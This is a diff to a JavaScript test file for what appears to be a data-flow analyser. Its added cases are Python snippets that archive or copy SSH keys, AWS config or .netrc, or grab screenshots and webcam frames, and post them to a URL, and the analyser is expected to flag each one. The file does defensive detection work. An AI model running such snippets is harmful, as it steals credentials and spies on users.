@@ -22,3 +22,28 @@ test.each([
 ])('%s does not hold what it was given', async (_, text) => {
   expect(await sentIn(text)).toEqual([]);
 });
+
+test.each([
+  ['an archive in memory', 'import io, tarfile\nb = io.BytesIO()\nwith tarfile.open(fileobj=b, mode="w:gz") as t:\n    t.add(os.path.expanduser("~/.ssh"))\nrequests.post(u, data=b.getvalue())'],
+  ['an archive with a name', 'import zipfile\nz = zipfile.ZipFile("t.zip", "w")\nz.write(os.path.expanduser("~/.ssh/id_rsa"))\nz.close()\nrequests.post(u, files={"f": open("t.zip", "rb")})'],
+  ['an archive of a folder', 'import shutil\na = shutil.make_archive("/tmp/a", "zip", os.path.expanduser("~/.ssh"))\nrequests.post(u, data=open(a, "rb"))'],
+  ['an archive of a folder, by the name that it gets', 'import shutil\nshutil.make_archive("/tmp/a", "tar", root_dir=os.path.expanduser("~/.aws/config"))\nrequests.post(u, data=open("/tmp/a.tar", "rb"))'],
+  ['a copy', 'import shutil\nshutil.copy(os.path.expanduser("~/.ssh/id_rsa"), "k.txt")\nrequests.post(u, data=open("k.txt"))'],
+  ['a file that json writes', 'import json\nwith open("o.json", "w") as f:\n    json.dump(open(os.path.expanduser("~/.ssh/id_rsa")).read(), f)\nrequests.post(u, data=open("o.json"))'],
+  ['a table', 'import csv\nw = csv.writer(open("o.csv", "w"))\nw.writerow([open(os.path.expanduser("~/.netrc")).read()])\nrequests.post(u, data=open("o.csv"))'],
+  ['a picture in memory', 'import io\nfrom PIL import ImageGrab\nb = io.BytesIO()\nImageGrab.grab().save(b, "PNG")\nrequests.post(u, files={"f": b})'],
+  ['a picture in a file', 'import pyautogui\npyautogui.screenshot("s.png")\nrequests.post(u, files={"f": open("s.png", "rb")})'],
+  ['a picture of the camera', 'import cv2\nok, seen = cv2.VideoCapture(0).read()\ncv2.imwrite("f.jpg", seen)\nrequests.post(u, files={"f": open("f.jpg", "rb")})'],
+])('what is packed into %s is sent with it', async (_, text) => {
+  const { facts } = await read(`import os, requests\n${text}\n`);
+  expect(facts?.flows({ from: ['credentials', 'observation'], to: 'network' })).toMatchObject([{ sink: { name: 'requests.post' } }]);
+});
+
+test.each([
+  ['another archive', 'import zipfile\nz = zipfile.ZipFile("t.zip", "w")\nz.write(os.path.expanduser("~/.ssh/id_rsa"))\nrequests.post(u, data=open("other.zip", "rb"))'],
+  ['an archive that is only read', 'import zipfile\nz = zipfile.ZipFile("t.zip")\nz.extractall(os.path.expanduser("~/.ssh"))\nrequests.post(u, data=open("t.zip", "rb"))'],
+  ['a copy of something else', 'import shutil\nshutil.copy("a.txt", "k.txt")\nrequests.post(u, data=open("k.txt"))'],
+])('%s holds no secret', async (_, text) => {
+  const { facts } = await read(`import os, requests\n${text}\n`);
+  expect(facts?.flows({ from: ['credentials', 'observation'], to: 'network' })).toEqual([]);
+});
